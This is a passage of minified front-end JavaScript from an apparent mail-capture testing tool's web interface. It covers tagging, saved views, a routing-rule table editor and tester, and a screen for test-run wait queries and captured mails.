  return { on, all: [...all].sort() };
}
function TagSheet({ onClose }) {
  inbox.version.value;
  let [text2, setText] = d(""), { on, all } = known(), wrong = text2 !== "" && !LEGAL.test(text2), add = (event) => {
    event.preventDefault(), !(!text2 || wrong) && (tagged(text2, !0), onClose());
  };
  return /* @__PURE__ */ a(Dialog, { title: selection.size.value > 1 ? t("tags.titleN", { n: selection.size.value }) : t("tags.title"), onClose, children: /* @__PURE__ */ a("form", { class: "stack", onSubmit: add, children: [
    /* @__PURE__ */ a("label", { children: [
      t("tags.new"),
      /* @__PURE__ */ a("span", { class: "one-line", children: [
        /* @__PURE__ */ a("input", { class: "inp", value: text2, autofocus: !0, autocomplete: "off", spellcheck: !1, "aria-invalid": wrong || void 0, "aria-describedby": "tag-wrong", onInput: (event) => setText(event.currentTarget.value.trim()) }),
        /* @__PURE__ */ a(Button, { label: t("tags.add"), kind: "primary", submit: !0, disabled: !text2 || wrong })
      ] })
    ] }),
    /* @__PURE__ */ a("p", { id: "tag-wrong", class: "dim", children: wrong ? t("tags.wrong") : "" }),
    all.length > 0 && /* @__PURE__ */ a("div", { class: "choices", role: "group", "aria-label": t("tags.known"), children: all.map((tag) => /* @__PURE__ */ a("button", { type: "button", class: "tag", style: { "--h": hue(tag) }, "aria-pressed": on.has(tag), onClick: () => tagged(tag, !on.has(tag)), children: tag }, tag)) })
  ] }) });
}

// src/views/layers/ViewSheet.tsx
async function put(list) {
  try {
    return saved.value = await putViews(list), !0;
  } catch (cause) {
    return failed(cause), !1;
  }
}
function ViewSheet({ onClose }) {
  let [name, setName] = d(route.value.saved), save2 = async (event) => {
    event.preventDefault();
    let { q: q2, account: account2, mailbox } = view.value, rest = saved.value.filter((one) => one.name !== name.trim());
    await put([...rest, { name: name.trim(), q: q2, account: account2, mailbox }]) && (tell(t("view.saved", { name: name.trim() })), onClose(), go({ saved: name.trim(), q: "", account: "", mailbox: "" }));
  }, { q, account } = view.value;
  return /* @__PURE__ */ a(Dialog, { title: t("view.save"), onClose, children: /* @__PURE__ */ a("div", { class: "stack", children: [
    (q || account) && /* @__PURE__ */ a("form", { onSubmit: (event) => {
      save2(event);
    }, children: [
      /* @__PURE__ */ a("label", { children: [
        t("view.name"),
        /* @__PURE__ */ a("span", { class: "one-line", children: [
          /* @__PURE__ */ a("input", { class: "inp", value: name, maxLength: 100, autofocus: !0, autocomplete: "off", onInput: (event) => setName(event.currentTarget.value) }),
          /* @__PURE__ */ a(Button, { remote: !0, label: t("view.keep"), kind: "primary", submit: !0, disabled: !name.trim() })
        ] })
      ] }),
      /* @__PURE__ */ a("p", { class: "dim", children: /* @__PURE__ */ a("code", { children: [
        account && `in:${account} `,
        q
      ] }) })
    ] }),
    saved.value.length > 0 && /* @__PURE__ */ a(Kept, {}),
    /* @__PURE__ */ a("p", { class: "dim", children: t("view.shared") })
  ] }) });
}
function Kept() {
  let list = saved.value, swap = (at2, by) => {
    let next = [...list];
    [next[at2], next[at2 + by]] = [next[at2 + by], next[at2]], put(next);
  };
  return /* @__PURE__ */ a("ul", { class: "lines-of", "aria-label": t("nav.views"), children: list.map((one, at2) => /* @__PURE__ */ a("li", { children: [
    /* @__PURE__ */ a("span", { children: [
      one.name,
      " ",
      at2 < 9 && /* @__PURE__ */ a("kbd", { children: [
        "g ",
        at2 + 1
      ] }),
      /* @__PURE__ */ a("span", { class: "dim", children: /* @__PURE__ */ a("code", { children: [
        one.account && `in:${one.account} `,
        one.q
      ] }) })
    ] }),
    /* @__PURE__ */ a("span", { class: "ends", children: [
      /* @__PURE__ */ a(Button, { label: t("view.up", { name: one.name }), icon: "newer", bare: !0, kind: "quiet", disabled: at2 === 0, onClick: () => swap(at2, -1) }),
      /* @__PURE__ */ a(Button, { label: t("view.down", { name: one.name }), icon: "older", bare: !0, kind: "quiet", disabled: at2 === list.length - 1, onClick: () => swap(at2, 1) }),
      /* @__PURE__ */ a(Button, { label: t("view.drop", { name: one.name }), icon: "trash", bare: !0, kind: "quiet", onClick: () => {
        put(list.filter((other) => other !== one));
      } })
    ] })
  ] }, one.name)) });
}

// src/store/draft.ts
var draft = y(void 0);
function changed(one) {
  return one !== void 0 && one.text !== one.read;
}
function hitsOf(values, table) {
  let out = /* @__PURE__ */ new Map();
  for (let { value, total } of values) {
    let line = value.startsWith(`${table}:`) ? Number(value.slice(table.length + 1)) : NaN;
    line > 0 && out.set(line, total);
  }
  return out;
}
function marks(warnings, file) {
  let out = /* @__PURE__ */ new Map();
  for (let warning of warnings) {
    let match = /^(.*?):(\d+):\s*(.*)$/.exec(warning);
    match && file && match[1].endsWith(file) && out.set(Number(match[2]), match[3]);
  }
  return out;
}

// src/views/rules/Editor.tsx
var HITS = 5e3;
function Editor({ table, list, asked, onSaved }) {
  let [problem, setProblem] = d(""), [busy, setBusy] = d(!1), [stale, setStale] = d(!1), hits2 = useFetched("hits", (signal) => hits(signal), HITS), one = draft.value?.id === table.id ? draft.value : void 0, read = () => {
    setProblem(""), setStale(!1), tableText(table.id).then(({ text: text2, tag }) => draft.value = { id: table.id, text: text2, read: text2, tag }, (cause) => setProblem(cause instanceof Error ? cause.message : String(cause)));
  };
  A(() => {
    one || read();
  }, [table.id]);
  let save2 = async () => {
    if (one) {
      setBusy(!0), setProblem("");
      try {
        let next = await putTable(one.id, one.text, one.tag), { text: text2, tag } = await tableText(one.id);
        draft.value = { id: one.id, text: text2, read: text2, tag }, tell(t("rules.saved")), onSaved(next);
      } catch (cause) {
        setStale(cause instanceof Problem && cause.status === 412), setProblem(cause instanceof Error ? cause.message : String(cause));
      }
      setBusy(!1);
    }
  };
  if (!one) return problem ? /* @__PURE__ */ a("p", { class: "bad", children: problem }) : null;
  let led = hits2.data && !changed(one) ? hitsOf(hits2.data.values, table.table) : void 0, wrong = new Map(asked.problems.map(({ line, text: text2 }) => [line, text2])), said = asked.draft ? asked.answer?.warnings ?? [] : list.warnings, clean = asked.problems.length === 0 && !asked.problem;
  return /* @__PURE__ */ a($, { children: [
    /* @__PURE__ */ a("header", { class: "sidehead", children: [
      /* @__PURE__ */ a("h2", { children: [
        /* @__PURE__ */ a("code", { title: table.table, children: shorten(table.table) }),
        " ",
        changed(one) && /* @__PURE__ */ a("span", { class: "tag draft", children: t("rules.draft") })
      ] }),
      changed(one) && /* @__PURE__ */ a(Button, { label: t("rules.discard"), kind: "quiet", onClick: read }),
      list.writable && /* @__PURE__ */ a(Button, { remote: !0, label: t("rules.save"), kind: "primary", disabled: !changed(one) || !clean || busy, onClick: () => {
        save2();
      } })
    ] }),
    problem && /* @__PURE__ */ a("p", { class: "notebar", role: "alert", children: [
      problem,
      " ",
      stale && /* @__PURE__ */ a(Button, { label: t("rules.readAgain"), kind: "quiet", onClick: read })
    ] }),
    /* @__PURE__ */ a(Lines, { text: one.text, wrong, warned: marks(said, table.file ?? ""), led, table: table.table, set: (text2) => draft.value = { ...one, text: text2 } }),
    led && hits2.data?.since && /* @__PURE__ */ a("p", { class: "dim under-lines", children: t(hits2.data.partial ? "rules.hitsPartial" : "rules.hitsSince", { since: instant(Date.parse(hits2.data.since)).replace(/\.\d+$/, "") }) }),
    (asked.problems.length > 0 || asked.draft && said.length > 0) && /* @__PURE__ */ a("ul", { class: "said-of", "aria-label": t("rules.said"), children: [
      asked.problems.map(({ line, text: text2 }) => /* @__PURE__ */ a("li", { class: "bad", children: [
        line > 0 && /* @__PURE__ */ a("b", { children: [
          t("rules.line", { n: line }),
          " "
        ] }),
        text2
      ] }, `${line}${text2}`)),
      asked.problems.length === 0 && said.map((warning) => /* @__PURE__ */ a("li", { class: "warned", children: shorten(warning) }, warning))
    ] })
  ] });
}
function Led({ n, line, table }) {
  return /* @__PURE__ */ a(Link, { to: { q: `rule:${quoted(`${table}:${line}`)}` }, title: t("rules.hitsOf", { n, line }), children: [
    count(n),
    /* @__PURE__ */ a("span", { class: "sr", children: [
      " ",
      t("rules.hitsOf", { n, line })
    ] })
  ] });
}
function Lines({ text: text2, wrong, warned, led, table, set }) {
  let gutter = T(null), counts = T(null), n = text2.split(`
`).length, scrolled = (event) => {
    for (let side of [gutter.current, counts.current]) side && (side.scrollTop = event.currentTarget.scrollTop);
  };
  return /* @__PURE__ */ a("div", { class: "lines-edit", style: { "--rows": Math.min(28, Math.max(8, n + 1)) }, children: [
    /* @__PURE__ */ a("div", { class: "gutter", "aria-hidden": "true", ref: gutter, children: Array.from({ length: n }, (_, at2) => {
      let bad = wrong.get(at2 + 1), odd = warned.get(at2 + 1);
      return /* @__PURE__ */ a("span", { class: bad ? "bad" : odd ? "warned" : void 0, title: bad ?? odd, children: at2 + 1 }, at2);
    }) }),
    /* @__PURE__ */ a("textarea", { "aria-label": t("rules.text"), "aria-invalid": wrong.size > 0 || void 0, wrap: "off", spellcheck: !1, autocomplete: "off", autocapitalize: "off", value: text2, onInput: (event) => set(event.currentTarget.value), onScroll: scrolled }),
    led && /* @__PURE__ */ a("div", { class: "hits", role: "group", "aria-label": t("rules.hits"), ref: counts, children: Array.from({ length: n }, (_, at2) => /* @__PURE__ */ a("span", { children: led.has(at2 + 1) && /* @__PURE__ */ a(Led, { n: led.get(at2 + 1), line: at2 + 1, table }) }, at2)) })
  ] });
}

// src/views/rules/Impact.tsx
function Impact({ impact }) {
  return /* @__PURE__ */ a("section", { class: "impact", "aria-label": t("rules.impact"), children: [
    /* @__PURE__ */ a("h3", { children: [
      t("rules.impactOf", { n: impact.changed, of: impact.messages }),
      impact.partial && ` ${t("rules.partial")}`
    ] }),
    impact.examples.length > 0 && /* @__PURE__ */ a("table", { class: "table", children: [
      /* @__PURE__ */ a("thead", { children: /* @__PURE__ */ a("tr", { children: [
        /* @__PURE__ */ a("th", { scope: "col", children: t("rules.recipient") }),
        /* @__PURE__ */ a("th", { scope: "col", children: t("rules.goesNow") }),
        /* @__PURE__ */ a("th", { scope: "col", children: t("rules.wouldGo") })
      ] }) }),
      /* @__PURE__ */ a("tbody", { children: impact.examples.map((one, at2) => /* @__PURE__ */ a("tr", { children: [
        /* @__PURE__ */ a("td", { class: "mono", children: /* @__PURE__ */ a(Link, { to: { id: one.id, tab: "delivery" }, children: one.address }) }),
        /* @__PURE__ */ a("td", { class: "mono del", children: one.live.join(", ") || "–" }),
        /* @__PURE__ */ a("td", { class: "mono ins", children: one.draft.join(", ") || "–" })
      ] }, at2)) })
    ] })
  ] });
}

// src/views/rules/Many.tsx
var MOST3 = 1e3;
function Many({ draft: draft2 }) {
  let [text2, setText] = d(""), [answers, setAnswers] = d([]), addresses2 = text2.split(/[\s,;]+/).filter(Boolean).slice(0, MOST3), ask = () => askRules({ addresses: addresses2, ...draft2 }).then(({ answers: all }) => setAnswers(all), failed);
  return /* @__PURE__ */ a("details", { class: "many", children: [
    /* @__PURE__ */ a("summary", { children: t("rules.many") }),
    /* @__PURE__ */ a("label", { children: [
      /* @__PURE__ */ a("span", { class: "dim", children: t("rules.paste") }),
      /* @__PURE__ */ a("textarea", { class: "inp", rows: 4, spellcheck: !1, value: text2, onInput: (event) => setText(event.currentTarget.value) })
    ] }),
    /* @__PURE__ */ a("p", { class: "one-line", children: [
      /* @__PURE__ */ a(Button, { label: t("rules.testN", { n: addresses2.length }), disabled: addresses2.length === 0, onClick: () => {
        ask();
      } }),
      answers.length > 0 && /* @__PURE__ */ a(Button, { label: t("rules.export"), icon: "down", onClick: () => save("addresses.csv", csv(answers)) })
    ] }),
    answers.length > 0 && /* @__PURE__ */ a("table", { class: "table", children: [
      /* @__PURE__ */ a("thead", { children: /* @__PURE__ */ a("tr", { children: [
        /* @__PURE__ */ a("th", { scope: "col", children: t("rules.recipient") }),
        /* @__PURE__ */ a("th", { scope: "col", children: t("rules.reply") }),
        /* @__PURE__ */ a("th", { scope: "col", children: t("rules.final") })
      ] }) }),
      /* @__PURE__ */ a("tbody", { children: answers.map((one, at2) => /* @__PURE__ */ a("tr", { children: [
        /* @__PURE__ */ a("td", { class: "mono", children: one.address }),
        /* @__PURE__ */ a("td", { class: /^2/.test(one.reply) ? "mono" : "mono bad", children: one.reply }),
        /* @__PURE__ */ a("td", { class: "mono", children: one.final.join(", ") })
      ] }, at2)) })
    ] })
  ] });
}
function csv(answers) {
  let cell = (value) => /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value, lines = answers.map((one) => [one.address, one.reply, one.final.join(" "), one.steps.map((step) => `${step.table}:${step.line}`).join(" ")]);
  return [["address", "reply", "final", "rules"], ...lines].map((line) => line.map(cell).join(",")).join(`\r
`) + `\r
`;
}
function save(name, text2) {
  let link = document.createElement("a");
  link.href = URL.createObjectURL(new Blob([text2], { type: "text/csv" })), link.download = name, link.click(), setTimeout(() => URL.revokeObjectURL(link.href), 1e3);
}

// src/views/rules/Asked.tsx
function same2(a2, b) {
  return a2.table === b.table && a2.key === b.key && a2.found === b.found && !a2.skipped && !b.skipped;
}
function told(lookups) {
  return lookups.filter((one, at2) => !lookups.slice(0, at2).some((before) => same2(one, before) || one.skipped && before.table === one.table));
}
function AskedTables({ lookups }) {
  let list = told(lookups);
  if (list.length === 0) return null;
  let vain = list.filter((one) => !one.found).length;
  return /* @__PURE__ */ a("details", { class: "asked-tables", children: [
    /* @__PURE__ */ a("summary", { children: t("rules.asked", { n: list.length, vain }) }),
    /* @__PURE__ */ a("ol", { children: list.map((one, at2) => /* @__PURE__ */ a("li", { class: one.found ? "hit" : one.error ? "wrong" : void 0, children: [
      /* @__PURE__ */ a(Rule, { table: one.table, line: one.found ? one.line ?? 0 : 0 }),
      /* @__PURE__ */ a("div", { children: [
        /* @__PURE__ */ a(Outcome, { one }),
        !one.found && one.tried && one.tried.length > 0 && /* @__PURE__ */ a(TriedRules, { list: one.tried }),
        one.found && one.tried && one.tried.length > 1 && /* @__PURE__ */ a(TriedRules, { list: one.tried.slice(0, -1) })
      ] })
    ] }, at2)) })
  ] });
}
function Outcome({ one }) {
  return one.skipped ? /* @__PURE__ */ a("span", { class: "dim", children: t("rules.skipped") }) : /* @__PURE__ */ a($, { children: [
    /* @__PURE__ */ a("code", { children: one.key }),
    " ",
    one.found ? /* @__PURE__ */ a($, { children: [
      "→ ",
      /* @__PURE__ */ a("code", { children: one.value })
    ] }) : /* @__PURE__ */ a("span", { class: one.error ? "bad" : "dim", children: one.error ?? t(one.tried?.length ? "rules.noneMatches" : "rules.noKey") })
  ] });
}
function TriedRules({ list }) {
  return /* @__PURE__ */ a("ul", { class: "tried", children: list.map((rule, at2) => /* @__PURE__ */ a("li", { children: [
    /* @__PURE__ */ a("span", { class: "n", children: rule.line }),
    /* @__PURE__ */ a("code", { children: rule.if ? `if ${rule.pattern}` : rule.pattern }),
    /* @__PURE__ */ a("span", { class: "dim", children: t(rule.if ? rule.matched ? "rules.ifHolds" : "rules.ifNot" : "rules.noMatch") })
  ] }, at2)) });
}

// src/views/rules/Tester.tsx
function Tester({ address, sender, setAddress, setSender, answer, draft: draft2, problem, problems }) {
  let found = answer?.answers.find((one) => one.address.toLowerCase() === address.toLowerCase());
  return /* @__PURE__ */ a("section", { class: "tester", "aria-label": t("rules.test"), children: [
    /* @__PURE__ */ a("div", { class: "ask", children: [
      /* @__PURE__ */ a("label", { children: [
        /* @__PURE__ */ a("span", { children: t("rules.test") }),
        /* @__PURE__ */ a("input", { class: "inp", type: "text", inputMode: "email", autocomplete: "off", autocapitalize: "off", spellcheck: !1, placeholder: "anna@customers.example", value: address, onInput: (event) => setAddress(event.currentTarget.value.trim()) })
      ] }),
      /* @__PURE__ */ a("label", { children: [
        /* @__PURE__ */ a("span", { children: t("rules.from") }),
        /* @__PURE__ */ a("input", { class: "inp", type: "text", inputMode: "email", autocomplete: "off", autocapitalize: "off", spellcheck: !1, placeholder: t("rules.any"), value: sender, onInput: (event) => setSender(event.currentTarget.value.trim()) })
      ] })
    ] }),
    /* @__PURE__ */ a("div", { class: "found", role: "status", "aria-busy": !!address && !found, children: [
      address === "" && /* @__PURE__ */ a("p", { class: "dim", children: t("rules.hint") }),
      problem && problems.length === 0 && /* @__PURE__ */ a("p", { class: "bad", children: problem }),
      address && found && /* @__PURE__ */ a(Answer, { answer: found, drafted: draft2 !== void 0 })
    ] })
  ] });
}
function Answer({ answer, drafted }) {
  let refused = !/^2/.test(answer.reply);
  return /* @__PURE__ */ a($, { children: [
    /* @__PURE__ */ a("p", { class: "verdict", children: [
      drafted && /* @__PURE__ */ a("span", { class: "tag draft", children: t("rules.draft") }),
      /* @__PURE__ */ a("code", { class: refused ? "reply bad" : "reply ok", children: answer.reply }),
      answer.error && /* @__PURE__ */ a("span", { class: "bad", children: answer.error }),
      answer.failure && /* @__PURE__ */ a("span", { class: "bad", children: [
        t("rules.afterContent"),
        " ",
        /* @__PURE__ */ a("code", { children: answer.failure })
      ] })
    ] }),
    /* @__PURE__ */ a(Way, { answer, refused }),
    answer.reversePath !== void 0 && /* @__PURE__ */ a("p", { class: "dim", children: [
      t("rules.reverse"),
      " ",
      /* @__PURE__ */ a("code", { children: answer.reversePath || "<>" })
    ] }),
    answer.live && /* @__PURE__ */ a("p", { class: "was", children: [
      t("rules.now"),
      " ",
      /* @__PURE__ */ a("code", { children: answer.live.final.join(", ") || answer.live.reply })
    ] }),
    /* @__PURE__ */ a(AskedTables, { lookups: answer.lookups ?? [] }),
    /* @__PURE__ */ a("p", { children: /* @__PURE__ */ a(Link, { to: { q: `rcpt:${quoted(answer.address)}` }, children: t("rules.mails") }) })
  ] });
}
function Account({ answer, at: at2, final }) {
  let account = answer.accounts?.[at2]?.account;
  return !account || account === final ? null : /* @__PURE__ */ a("span", { class: "dim", children: t("rules.account", { account }) });
}
function Way({ answer, refused }) {
  let { address, steps } = answer;
  return /* @__PURE__ */ a("ol", { class: "steps", children: [
    /* @__PURE__ */ a("li", { children: [
      /* @__PURE__ */ a("span", { class: "label", children: "RCPT TO" }),
      /* @__PURE__ */ a(RecipientChip, { address })
    ] }),
    steps.map((step, at2) => /* @__PURE__ */ a("li", { children: [
      /* @__PURE__ */ a(Rule, { table: step.table, line: step.line }),
      /* @__PURE__ */ a("code", { children: [
        step.from !== (steps[at2 - 1]?.to[0] ?? address) && `${step.from} `,
        "→ ",
        step.to.join(", ") || "–"
      ] })
    ] }, at2)),
    steps.length === 0 && /* @__PURE__ */ a("li", { children: [
      /* @__PURE__ */ a("span", { class: "label", children: t("delivery.rule") }),
      /* @__PURE__ */ a("span", { class: "dim", children: t("delivery.noRule") })
    ] }),
    !refused && answer.final.map((final, at2) => /* @__PURE__ */ a("li", { class: at2 === 0 ? "end" : void 0, children: [
      /* @__PURE__ */ a("span", { class: "label", children: t(answer.accounts?.[at2]?.external ? "delivery.wouldGo" : "delivery.kept") }),
      /* @__PURE__ */ a("span", { children: [
        /* @__PURE__ */ a("code", { class: "final", children: final }),
        " ",
        /* @__PURE__ */ a(Account, { answer, at: at2, final })
      ] })
    ] }, final))
  ] });
}

// src/views/rules/RulesScreen.tsx
var REST = 120, HELD = 1e3;
function RulesScreen() {
  let list = useFetched("tables", (signal) => tables(signal)), [fresh, setFresh] = d(), known2 = fresh ?? list.data, asked = useAsked(), reload = () => reloadTables().then((next) => (setFresh({ ...known2, ...next }), tell(t("rules.reloaded")), asked.again()), failed);
  return /* @__PURE__ */ a(
    Screen,
    {
      title: t("rules.title"),
      kind: "rules",
      tools: /* @__PURE__ */ a($, { children: [
        /* @__PURE__ */ a("span", { class: "gap" }),
        known2?.loadedAt && /* @__PURE__ */ a("span", { class: "dim", children: t("rules.loaded", { time: moment(Date.parse(known2.loadedAt), Date.now()) }) }),
        /* @__PURE__ */ a(Button, { remote: !0, label: t("rules.reload"), icon: "reload", onClick: () => {
          reload();
        } })
      ] }),
      children: [
        /* @__PURE__ */ a(Tester, { ...asked }),
        list.problem && /* @__PURE__ */ a(Failure, { text: list.problem, again: list.again }),
        !known2 && list.busy && /* @__PURE__ */ a(Waiting, {}),
        known2 && /* @__PURE__ */ a(Tables, { list: known2, asked, onSaved: (next) => (setFresh(next), asked.again()) }),
        /* @__PURE__ */ a(Many, { draft: asked.draft })
      ]
    }
  );
}
function useAsked() {
  let [address, setAddress] = d(route.value.address), [sender, setSender] = d(""), [turn, setTurn] = d(0), [state, setState] = d({ problems: [], problem: "" }), one = draft.value, written = changed(one) ? { draft: one.text, file: one.id } : void 0;
  return A(() => setAddress(route.value.address), [route.value.address]), A(() => {
    let whole = /^(?:[^@\s]+@[^@\s]*[^@\s.]|postmaster)$/i.test(address);
    if (!whole && !written) return setState({ problems: [], problem: "" });
    let asking = new AbortController(), timer = setTimeout(() => {
      let ask = { addresses: whole ? [address] : [], lookups: !0, ...sender && { sender }, ...written, ...written && { messages: HELD } };
      askRules(ask, asking.signal).then(
        (answer) => setState({ answer, problems: [], problem: "" }),
        (cause) => asking.signal.aborted || setState((old) => ({ ...old, problems: cause instanceof Problem ? cause.problems : [], problem: String(cause instanceof Error ? cause.message : cause) }))
      );
    }, REST);
    return () => (clearTimeout(timer), asking.abort());
  }, [address, sender, written?.draft, written?.file, turn]), { address, sender, setAddress, setSender, ...state, draft: written, again: () => setTurn((n) => n + 1) };
}
function Tables({ list, asked, onSaved }) {
  let tables2 = list.tables ?? [], [chosen, setChosen] = d(draft.value?.id ?? tables2.find((one) => one.id)?.id ?? ""), table = tables2.find((one) => one.id === chosen);
  return /* @__PURE__ */ a("section", { class: "tables", "aria-label": t("rules.tables"), children: [
    /* @__PURE__ */ a("div", { class: "table-list", children: [
      /* @__PURE__ */ a("h2", { children: t("rules.tables") }),
      tables2.length === 0 && /* @__PURE__ */ a("p", { class: "dim", children: [
        t("rules.noTables"),
        " ",
        /* @__PURE__ */ a("code", { children: list.table })
      ] }),
      /* @__PURE__ */ a("ul", { children: tables2.map((one, at2) => /* @__PURE__ */ a(TableEntry, { one, chosen: !!one.id && one.id === chosen, choose: () => setChosen(one.id ?? "") }, at2)) }),
      list.warnings.length > 0 && /* @__PURE__ */ a("details", { class: "notebar", open: !0, children: [
        /* @__PURE__ */ a("summary", { children: t("rules.warnings", { n: list.warnings.length }) }),
        /* @__PURE__ */ a("ul", { children: list.warnings.map((warning) => /* @__PURE__ */ a("li", { title: warning, children: shorten(warning) }, warning)) })
      ] }),
      !list.writable && /* @__PURE__ */ a("p", { class: "dim", children: [
        t("rules.readOnly"),
        " ",
        /* @__PURE__ */ a("code", { children: "--rules-writable" })
      ] })
    ] }),
    table?.id && /* @__PURE__ */ a("div", { class: "table-text", children: [
      /* @__PURE__ */ a(Editor, { table, list, asked, onSaved }, table.id),
      asked.draft && asked.answer?.impact && asked.problems.length === 0 && /* @__PURE__ */ a(Impact, { impact: asked.answer.impact })
    ] })
  ] });
}
function TableEntry({ one, chosen, choose }) {
  let written = draft.value?.id === one.id && changed(draft.value);
  return /* @__PURE__ */ a("li", { children: /* @__PURE__ */ a("button", { type: "button", class: "entry", "aria-pressed": chosen, disabled: !one.id, title: one.table, onClick: choose, children: [
    /* @__PURE__ */ a("span", { class: "name", children: [
      /* @__PURE__ */ a("code", { children: shorten(one.table) }),
      /* @__PURE__ */ a("span", { class: "dim", children: [
        one.use,
        written && ` · ${t("rules.draft")}`
      ] })
    ] }),
    one.rules >= 0 && /* @__PURE__ */ a("span", { class: "n", children: t("rules.count", { n: one.rules }) })
  ] }) });
}

// src/views/runs/RunScreen.tsx
var EVERY = 2e3;
function runQuery(name) {
  return `(tag:${quoted(name)} OR tag:${quoted(`run-${name}`)} OR header:X-Mailsink-Run=${quoted(name)} OR in:${quoted(name)})`;
}
function about(wait, name) {
  return !name || wait.account === name || wait.q.toLowerCase().includes(name.toLowerCase());
}
function RunScreen() {
  let { name } = route.value, { data, problem, again } = useFetched("waits", (signal) => waits(signal), EVERY), waits2 = (data?.waits ?? []).filter((one) => about(one, name)), over = (data?.over ?? []).filter((one) => about(one, name)), failed2 = over.filter((one) => one.outcome === "timeout" || one.outcome === "unwanted").length, title = name ? t("run.name", { name }) : t("run.title");
  return /* @__PURE__ */ a(
    Screen,
    {
      title,
      kind: "runs",
      tools: /* @__PURE__ */ a($, { children: [
        failed2 > 0 && /* @__PURE__ */ a("span", { class: "chip offline", children: [
          /* @__PURE__ */ a("span", { class: "mark", "aria-hidden": "true" }),
          t("run.failed", { n: failed2 })
        ] }),
        /* @__PURE__ */ a("span", { class: "gap" }),
        name && /* @__PURE__ */ a($, { children: [
          /* @__PURE__ */ a(Button, { label: t("act.copyLink"), icon: "link", onClick: () => {
            copy(new URL(href({ screen: "run", name }), location.href).href, t("what.link"));
          } }),
          /* @__PURE__ */ a("a", { class: "btn", href: at("v1/export") + query({ q: runQuery(name), format: "tar" }), download: `run-${name}.tar`, children: [
            /* @__PURE__ */ a(Icon, { name: "down" }),
            " ",
            t("run.download")
          ] })
        ] })
      ] }),
      children: [
        problem && /* @__PURE__ */ a(Failure, { text: problem, again }),
        /* @__PURE__ */ a("div", { class: "split two", children: [
          /* @__PURE__ */ a("section", { class: "left-side", "aria-label": t("run.waits"), children: [
            /* @__PURE__ */ a("h2", { class: "sidehead", children: t("run.waits") }),
            !data && !problem && /* @__PURE__ */ a(Waiting, {}),
            data && waits2.length + over.length === 0 && /* @__PURE__ */ a(Hint, {}),
            /* @__PURE__ */ a("ul", { class: "waits", children: [
              waits2.map((one) => /* @__PURE__ */ a(Waiting1, { one }, one.began + one.q)),
              over.map((one) => /* @__PURE__ */ a(Over, { one }, one.began + one.q + one.took))
            ] })
          ] }),
          /* @__PURE__ */ a("section", { class: "right-side", "aria-label": t("run.mails"), children: name ? /* @__PURE__ */ a(Mails, { name }) : /* @__PURE__ */ a(Names, {}) })
        ] })
      ]
    }
  );
}
function Hint() {
  return /* @__PURE__ */ a("div", { class: "state", children: [
    /* @__PURE__ */ a("p", { children: t("run.none") }),
    /* @__PURE__ */ a("code", { children: `curl '${new URL(at("v1/wait"), location.href).href}?q=rcpt:anna&timeout=30s'` })
  ] });
}
function Waiting1({ one }) {
  return /* @__PURE__ */ a("li", { class: "going", children: [
    /* @__PURE__ */ a("span", { class: "sign", "aria-hidden": "true", children: "…" }),
    /* @__PURE__ */ a("div", { children: [
      /* @__PURE__ */ a(Query, { one }),
      /* @__PURE__ */ a("p", { class: "dim", children: t("run.going", { since: ago(Date.parse(one.began), now.value) }) })
    ] })
  ] });
}
var SIGNS = { found: "✓", quiet: "✓", timeout: "✗", unwanted: "✗" };
function Over({ one }) {
  let good = one.outcome === "found" || one.outcome === "quiet";
  return /* @__PURE__ */ a("li", { class: good ? "good" : "wrong", children: [
    /* @__PURE__ */ a("span", { class: "sign", "aria-hidden": "true", children: SIGNS[one.outcome] }),
    /* @__PURE__ */ a("div", { children: [
      /* @__PURE__ */ a(Query, { one }),
      /* @__PURE__ */ a("p", { class: "dim", children: [
        moment(Date.parse(one.began), now.value),
        " · ",
        /* @__PURE__ */ a("span", { class: good ? void 0 : "bad", children: t(`run.${one.outcome}`, { s: (one.took / 1e3).toFixed(2) }) }),
        " ",
        one.found.map((id) => /* @__PURE__ */ a(Link, { to: { id }, children: /* @__PURE__ */ a("code", { children: id }) }, id))
      ] }),
      one.near?.map((near) => /* @__PURE__ */ a("div", { class: "near", children: [
        /* @__PURE__ */ a("p", { children: [
          t("run.near"),
          " ",
          /* @__PURE__ */ a(Link, { to: { id: near.id }, children: /* @__PURE__ */ a("bdi", { children: near.subject || t("row.noSubject") }) }),
          " ",
          /* @__PURE__ */ a(RecipientChip, { address: near.rcpt[0] ?? "" })
        ] }),
        /* @__PURE__ */ a("p", { class: "dim", children: [
          near.matched.map((term) => /* @__PURE__ */ a("code", { class: "hit", children: term }, term)),
          near.missed.map((term) => /* @__PURE__ */ a("code", { class: "miss", children: term }, term))
        ] })
      ] }, near.id))
    ] })
  ] });
}
function Query({ one }) {
  let words2 = [one.account && `in:${one.account}`, one.q].filter(Boolean).join(" ");
  return /* @__PURE__ */ a("p", { class: "asked", children: [
    /* @__PURE__ */ a("code", { children: words2 || t("run.any") }),
    (one.count > 1 || one.absent) && /* @__PURE__ */ a("span", { class: "tag draft", children: one.absent ? t("run.absent") : t("run.count", { n: one.count }) }),
    /* @__PURE__ */ a("span", { class: "gap" }),
    /* @__PURE__ */ a(Button, { label: t("run.copy"), icon: "copy", bare: !0, kind: "quiet", onClick: () => {
      copy(one.q, t("what.query"));
    } }),
    /* @__PURE__ */ a(Button, { label: t("run.search"), icon: "search", bare: !0, kind: "quiet", onClick: () => search(words2) })
  ] });
}
function Mails({ name }) {
  let q = runQuery(name), { data } = useFetched(`run ${name}`, (signal) => rows({ q, account: "", mailbox: "" }, { offset: 0, limit: 200, asof: 0 }, signal), EVERY);
  return /* @__PURE__ */ a($, { children: [
    /* @__PURE__ */ a("h2", { class: "sidehead", children: t("run.mailsN", { n: data?.total ?? 0 }) }),
    data && data.rows.length === 0 && /* @__PURE__ */ a("p", { class: "state", children: t("run.noMails", { name }) }),
    /* @__PURE__ */ a("ul", { class: "mails", children: data?.rows.map((row) => /* @__PURE__ */ a("li", { children: [
      /* @__PURE__ */ a("span", { class: "n", children: moment(row.t, now.value) }),
      /* @__PURE__ */ a(RecipientChip, { address: row.rcpt[0] ?? "", more: row.rcptN - 1 }),
      /* @__PURE__ */ a(Link, { to: { id: row.id, q }, children: /* @__PURE__ */ a("bdi", { children: row.subj || t("row.noSubject") }) })
    ] }, row.id)) })
  ] });
}
function Names() {
  let accounts = facets2.accounts.value;
  return /* @__PURE__ */ a($, { children: [
    /* @__PURE__ */ a("h2", { class: "sidehead", children: t("run.accounts") }),
    /* @__PURE__ */ a("p", { class: "dim pad", children: t("run.what") }),
    /* @__PURE__ */ a("ul", { class: "mails", children: accounts.map(({ name, total }) => /* @__PURE__ */ a("li", { children: [
      /* @__PURE__ */ a(Link, { to: { screen: "run", name }, children: name }),
